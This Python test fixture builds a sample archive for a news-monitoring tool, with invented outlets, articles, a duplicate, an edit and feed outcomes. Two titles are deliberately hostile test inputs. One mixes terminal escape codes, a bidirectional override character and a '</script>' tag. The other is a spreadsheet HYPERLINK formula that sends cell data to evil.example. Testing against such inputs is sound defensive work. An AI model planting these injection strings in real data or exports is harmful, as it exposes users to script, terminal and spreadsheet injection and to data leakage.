"""A small archive made through the real store: four outlets, seven articles, a copy, an edit, and hostile words."""

from collections.abc import Mapping
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

from monitor.model.article import Article, Entry
from monitor.model.fetch import Fetch
from monitor.model.filing import Filed
from monitor.model.run import Counts
from monitor.model.source import Feed, FeedState, Source
from monitor.model.tag import Mention, Span, Tag
from monitor.model.verdict import Copy, Duplicate, Known, New, Revised, Verdict
from monitor.store import Archive, open_archive

NOW = datetime(2026, 11, 23, 10, 0, tzinfo=UTC)
TAGS = {
    "country:AZ": Tag(slug="country:AZ", kind="country", label="Azerbaijan"),
    "country:AM": Tag(slug="country:AM", kind="country", label="Armenia"),
    "country:GE": Tag(slug="country:GE", kind="country", label="Georgia"),
    "org:nato": Tag(slug="org:nato", kind="organisation", label="NATO"),
    "org:osce": Tag(slug="org:osce", kind="organisation", label="OSCE"),
}
SOURCES = (
    Source(id="caspian-courier", name="Caspian Courier", homepage="https://courier.example/", country="AZ",
           languages=("en",), owner="courier"),
    Source(id="kura-wire", name="Kura Wire", homepage="https://kura.example/", country="GE", languages=("en",),
           type="agency", tier=1, owner="kura"),
    Source(id="yuzhny-vestnik", name="Южный вестник", homepage="https://vestnik.example/", country="GE",
           languages=("ru",), owner="vestnik"),
    Source(id="quiet-quarterly", name="Quiet Quarterly", homepage="https://quiet.example/", country="CH",
           languages=("en",), type="think-tank", tier=3, owner="quiet"),
)  # fmt: skip
FEEDS = tuple(
    Feed(source=source.id, url=f"{source.homepage}feed.xml", kind="rss", every=timedelta(minutes=30))
    for source in SOURCES
)
HOSTILE = "\x1b[31m[bold]Red\x1b[0m \u202ealert</script>\x07"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"click")'


def article(number: int, source: str, title: str, *, hours: int, body: str = "", language: str = "en") -> Article:
    """An article as the pipeline would hand it to the archive."""
    url = f"https://{source}.example/{number}"
    return Article(
        url=url,
        url_key=url.removeprefix("https://"),
        keys=(url.removeprefix("https://"),),
        source=source,
        title=title,
        summary=f"Summary of number {number}.",
        body=body or f"The first paragraph of number {number}.\nThe second paragraph.",
        authors=("Foreign desk",),
        language=language,
        published_at=NOW - timedelta(hours=hours),
        published_raw="Mon, 23 Nov 2026",
        dated_by="feed",
        sorted_at=NOW - timedelta(hours=hours),
        seen_at=NOW - timedelta(hours=hours) + timedelta(minutes=10),
        words=len(body.split()) or 12,
        content_hash=f"1:{title}{body}",
        extractor="json-ld",
    )


def mentions(**salient: float) -> tuple[Mention, ...]:
    """Mentions by code (`AZ=0.8`, `nato=0.3`); those from 0.5 are in focus."""
    found = []
    for code, salience in salient.items():
        tag = TAGS[f"country:{code}" if code.isupper() else f"org:{code}"]
        span = Span(field="title", start=0, end=len(tag.label), text=tag.label, rule="name")
        focus = salience >= 0.5
        found.append(Mention(tag=tag, salience=salience, hits=2, in_title=focus, focus=focus, spans=(span,)))
    return tuple(found)


def known(archive: Archive, url_key: str) -> Known:
    """What the archive knows by a key."""
    return archive.known_by_keys([url_key])[0]


def fill(path: Path) -> Mapping[str, int]:
    """Make the archive and return the ids of its articles by a word for each."""
    with open_archive(path, now=NOW) as archive:
        archive.mirror(SOURCES, FEEDS, now=NOW)
        archive.sync_tags(tuple(TAGS.values()))
        run = archive.start_run("collect", now=NOW, version="0.1.0", host="desk")
        ids = {word: keep(archive, run, verdict, tagged) for word, verdict, tagged in _verdicts()}
        original = known(archive, "kura-wire.example/2")
        copied = article(6, "caspian-courier", "Border commissions agree", hours=2, body="Wire text.")
        copy = Duplicate(article=copied, copy=Copy(of=original, score=1.0, why="hash"))
        ids["copy"] = keep(archive, run, copy, mentions(AM=0.7, AZ=0.7))
        edited = article(1, "caspian-courier", "NATO assembly receives Milli Majlis deputies", hours=3)
        changed = replace(edited, body="A corrected paragraph.\nThe second paragraph.", content_hash="1:corrected")
        revised = Revised(article=changed, of=known(archive, "caspian-courier.example/1"))
        keep(archive, run, revised, mentions(AZ=0.8, nato=0.9, AM=0.2))
        _file_feeds(archive, run, ids)
        archive.finish_run(run, outcome="partial", counts=Counts(feeds=4, checked=3, failed=1, new=6), now=NOW)
    return ids


def keep(archive: Archive, run: int, verdict: Verdict, tagged: tuple[Mention, ...]) -> int:
    """Apply a verdict as a run does."""
    return archive.apply(verdict, tagged, run_id=run, tagger="gazetteer/test")


def _verdicts() -> tuple[tuple[str, Verdict, tuple[Mention, ...]], ...]:
    said = (
        ("nato", article(1, "caspian-courier", "NATO assembly receives Milli Majlis deputies", hours=3),
         mentions(AZ=0.8, nato=0.9, AM=0.2)),
        ("border", article(2, "kura-wire", "Border commissions agree", hours=4, body="Wire text."),
         mentions(AM=0.7, AZ=0.7)),
        ("brussels", article(3, "yuzhny-vestnik", "Баку и Брюссель: новый этап", hours=30, language="ru"),
         mentions(AZ=0.6, osce=0.5)),
        ("hostile", article(4, "kura-wire", HOSTILE, hours=50), mentions(GE=0.6)),
        ("formula", article(5, "kura-wire", FORMULA, hours=60), ()),
        ("old", article(7, "quiet-quarterly", "The corridor in winter, [red]a review[/red]", hours=24 * 20),
         mentions(GE=0.9, nato=0.3)),
    )  # fmt: skip
    return tuple((word, New(article=article), tagged) for word, article, tagged in said)


def _file_feeds(archive: Archive, run: int, ids: Mapping[str, int]) -> None:
    rows = {row.url: row for row in archive.feed_rows()}
    for feed in FEEDS:
        row = rows[feed.url]
        fails = feed.source == "yuzhny-vestnik"
        state = FeedState(
            checked_at=NOW,
            succeeded_at=None if fails else NOW,
            newest_entry_at=NOW - timedelta(days=20 if feed.source == "quiet-quarterly" else 1),
            failures=3 if fails else 0,
            outcome="not_found" if fails else "ok",
            error="404 Not Found" if fails else None,
        )
        fetch = Fetch(
            run_id=run, feed_id=row.id, at=NOW, outcome="not_found" if fails else "ok", status=404 if fails else 200
        )
        filed = []
        if feed.source == "caspian-courier":
            entry = Entry(guid="1", url="https://caspian-courier.example/1", title="NATO")
            filed = [
                Filed(entry=entry, entry_key="k1", entry_hash="h1", url_key="caspian-courier.example/1",
                      disposition="seen", article_id=ids["nato"])
            ]  # fmt: skip
        archive.file_feed(row.id, state=state, fetch=fetch, filed=filed, now=NOW)
